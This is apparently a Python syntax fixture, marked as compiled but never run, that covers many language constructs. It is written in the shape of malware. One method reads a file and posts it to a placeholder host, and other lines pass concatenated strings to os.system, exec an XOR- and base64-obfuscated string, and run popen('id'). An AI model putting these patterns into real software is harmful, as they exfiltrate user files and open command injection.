"""Inert: compiled by several Pythons, never run."""
import os
import os.path as places
from base64 import b64decode as plain, b85decode
from urllib import request
KEY = b'\x01\xff key'
NUMBERS = [1, 2, 3, -4, 5.5, 1 << 70, 2j, None, True, ...]


class Sender(Base, metaclass=Meta):
    """Sends."""
    limit = 5

    def __init__(self, host, *rest, port=80, **more):
        self.host = host
        self.port = port or 8080
        if host and port > 3:
            print(f'https://{host}:{port!r}/x{{}}')
        elif not host:
            raise ValueError('no host')
        else:
            os.system('echo ' + host)

    @staticmethod
    def send(path, level=2):
        with open(path, 'rb') as file:
            data = file.read()
        try:
            import requests
        except ImportError as e:
            os.system('pip install requests')
            requests = None
        finally:
            print('sent')
        return requests.post('https://collect.example.invalid', data=data, headers={'level': str(level)})


def decode(data, key):
    out = []
    for i, unit in enumerate(data):
        out.append(unit ^ key[i % len(key)])
    left = len(out)
    while left > 3:
        left -= 1
    names = [chr(unit) for unit in out if unit]
    table = {unit: 1 for unit in out}
    return ''.join(chr(ord(c) + 1) for c in names) if table else None


async def later(things):
    async with things as held:
        await held.run(1)
    return held


def numbers():
    global counted
    counted = 1
    yield 1
    yield from decode(b'', b'')


exec(compile(decode(plain('aGk='), KEY), '<string>', 'exec'))
shift = lambda a, b=1: a + b
first, *others = shift(1), 2, 3
if __name__ == '__main__':
    Sender.send(*others, **{'level': 1})
    (lambda: __import__('os').popen('id').read())()
